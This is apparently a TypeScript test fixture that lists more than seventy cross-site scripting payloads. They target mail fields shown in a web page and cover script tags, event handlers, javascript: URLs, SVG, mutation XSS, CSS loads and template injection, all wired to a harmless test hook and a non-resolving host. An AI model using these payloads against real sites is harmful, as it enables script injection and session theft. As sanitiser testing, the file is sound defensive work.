/**
 * Hostile markup for the fields of a mail that reach a page. Every payload
 * that runs calls `__xss('<id>')` (a binding the test installs in every
 * frame) or `alert('<id>')`, and every remote load goes to `xss.invalid`, a
 * name that never resolves and that the test intercepts before it leaves
 * the browser. Written for this suite from the well-known classes of XSS
 * (script elements, event handlers, URL schemes, SVG and MathML, mutation
 * XSS, CSS, meta refresh, frames, encodings, template and header-injection
 * tricks); none is copied from a list.
 */
export interface XssPayload {
  id: string;
  markup: string;
}

const run = (id: string) => `__xss('${id}')`;
const remote = (id: string) => `http://xss.invalid/${id}`;

const make = (id: string, markup: (js: string, url: string) => string) => ({
  id,
  markup: markup(run(id), remote(id)),
});

/** At least 70 payloads; ids are short so they fit a 100-character name. */
export const XSS_PAYLOADS: readonly XssPayload[] = [
  make('s1', js => `<script>${js}</script>`),
  make('s2', js => `<SCRIPT>${js}</SCRIPT>`),
  make('s3', js => `<script type="module">${js}</script>`),
  make('s4', (_, url) => `<script src="${url}.js"></script>`),
  make('s5', js => `"><script>${js}</script>`),
  make('s6', js => `'><script>${js}</script>`),
  make('s7', js => `</title><script>${js}</script>`),
  make('s8', js => `</textarea><script>${js}</script>`),
  make('s9', js => `</style><script>${js}</script>`),
  make('s10', js => `<scr<script>ipt>${js}</scr</script>ipt>`),
  make('e1', js => `<img src=x onerror="${js}">`),
  make('e2', js => `<img src="x" onerror=${js}>`),
  make('e3', js => `<img/src/onerror=${js}>`),
  make('e4', js => `<svg onload="${js}"></svg>`),
  make('e5', js => `<svg><animate onbegin="${js}" attributeName=x dur=1s>`),
  make('e6', js => `<body onload="${js}">`),
  make('e7', js => `<input autofocus onfocus="${js}">`),
  make('e8', js => `<details open ontoggle="${js}">`),
  make('e9', js => `<video src=x onerror="${js}"></video>`),
  make('e10', js => `<audio src=x onerror="${js}"></audio>`),
  make('e11', js => `<marquee onstart="${js}">x</marquee>`),
  make(
    'e12',
    js => `<div onmouseover="${js}" style="width:999px;height:999px">x</div>`,
  ),
  make('e13', js => `<a onclick="${js}" href="#">click</a>`),
  make(
    'e14',
    js => `<form><button formaction="javascript:${js}">go</button></form>`,
  ),
  make('e15', js => `<select autofocus onfocus="${js}"></select>`),
  make('e16', js => `<textarea autofocus onfocus="${js}"></textarea>`),
  make('e17', js => `<keygen autofocus onfocus="${js}">`),
  make('e18', js => `<object data="javascript:${js}"></object>`),
  make('e19', js => `<embed src="javascript:${js}">`),
  make('e20', js => `<img src=x oNeRrOr="${js}">`),
  make('e21', js => `<img src=x onerror\n="${js}">`),
  make('e22', () => `<img src=x onerror=&#x5f;&#x5f;xss('e22')>`),
  make('e23', js => `<style onload="${js}"></style>`),
  make('e24', js => `<iframe onload="${js}"></iframe>`),
  make('u1', js => `<a href="javascript:${js}">link</a>`),
  make('u2', js => `<a href="JaVaScRiPt:${js}">link</a>`),
  make('u3', js => `<a href="java&#x09;script:${js}">link</a>`),
  make('u4', js => `<a href="&#106;avascript:${js}">link</a>`),
  make('u5', js => `<a href="  javascript:${js}">link</a>`),
  make('u6', js => `<a href="data:text/html,<script>${js}</script>">d</a>`),
  make('u7', js => `<iframe src="javascript:${js}"></iframe>`),
  make('u8', js => `<iframe srcdoc="<script>parent.${js}</script>"></iframe>`),
  make(
    'u9',
    js =>
      `<iframe src="data:text/html,<script>parent.${js}</script>"></iframe>`,
  ),
  make('u10', js => `<a href="vbscript:${js}">vb</a>`),
  make(
    'u11',
    js => `<svg><a xlink:href="javascript:${js}"><text y=20>x</text></a></svg>`,
  ),
  make(
    'u12',
    js =>
      `<math><maction actiontype="statusline" xlink:href="javascript:${js}">x</maction></math>`,
  ),
  make('u13', js => `<base href="javascript:${js}//">`),
  make(
    'u14',
    js => `<form action="javascript:${js}"><input type=submit></form>`,
  ),
  make('u15', js => `<isindex action="javascript:${js}" type=image>`),
  make(
    'm1',
    js => `<noscript><p title="</noscript><img src=x onerror=${js}>">`,
  ),
  make('m2', js => `<template><img src=x onerror=${js}></template>`),
  make('m3', js => `<svg><style><img src=x onerror=${js}></style></svg>`),
  make(
    'm4',
    js => `<math><mtext><table><mglyph><style><img src=x onerror=${js}>`,
  ),
  make('m5', js => `<xmp><img src=x onerror=${js}></xmp>`),
  make('m6', js => `<!--<img src="--><img src=x onerror=${js}//">`),
  make('m7', js => `<listing>&lt;img src=x onerror=${js}&gt;</listing>`),
  make(
    'm8',
    js => `<svg><foreignObject><img src=x onerror=${js}></foreignObject></svg>`,
  ),
  make('m9', js => `<![CDATA[<img src=x onerror=${js}>]]>`),
  make('c1', (_, url) => `<div style="background:url(${url}.png)">bg</div>`),
  make('c2', (_, url) => `<style>@import url(${url}.css);</style>`),
  make('c3', (_, url) => `<link rel="stylesheet" href="${url}.css">`),
  make('c4', js => `<div style="width:expression(${js})">ie</div>`),
  make(
    'c5',
    (_, url) => `<style>body{background-image:url("${url}.png")}</style>`,
  ),
  make(
    'c6',
    (_, url) => `<style>@font-face{font-family:x;src:url(${url}.woff)}</style>`,
  ),
  make(
    'c7',
    js => `<div style="behavior:url(#default#time2)" onbegin="${js}">b</div>`,
  ),
  make('r1', (_, url) => `<meta http-equiv="refresh" content="0;url=${url}">`),
  make(
    'r2',
    js => `<meta http-equiv="refresh" content="0;url=javascript:${js}">`,
  ),
  make('r3', (_, url) => `<iframe src="${url}"></iframe>`),
  make('r4', (_, url) => `<frameset><frame src="${url}"></frameset>`),
  make('r5', (_, url) => `<object data="${url}.swf"></object>`),
  make('r6', (_, url) => `<img srcset="${url}.png 1x">`),
  make('r7', (_, url) => `<video poster="${url}.png"></video>`),
  make('r8', (_, url) => `<input type="image" src="${url}.png">`),
  make(
    'r9',
    (_, url) => `<table background="${url}.png"><tr><td>t</td></tr></table>`,
  ),
  make('r10', (_, url) => `<svg><image href="${url}.svg"/></svg>`),
  make('t1', js => `{{constructor.constructor('${js.replace(/'/g, '"')}')()}}`),
  make('t2', js => `\${${js}}`),
  make('t3', js => `javascript:${js}`),
  make('t4', js => `%3Cscript%3E${js}%3C/script%3E`),
  make('t5', js => `&lt;script&gt;${js}&lt;/script&gt;`),
  make('t6', js => `\u003cscript\u003e${js}\u003c/script\u003e`),
  make('t7', js => `[click](javascript:${js})`),
  make(
    't8',
    js =>
      `<a href="#" style="all:unset;position:fixed;inset:0" onclick="${js}">`,
  ),
];

if (XSS_PAYLOADS.length < 70) {
  throw new Error(
    `The XSS corpus needs at least 70 payloads, has ${XSS_PAYLOADS.length}`,
  );
}
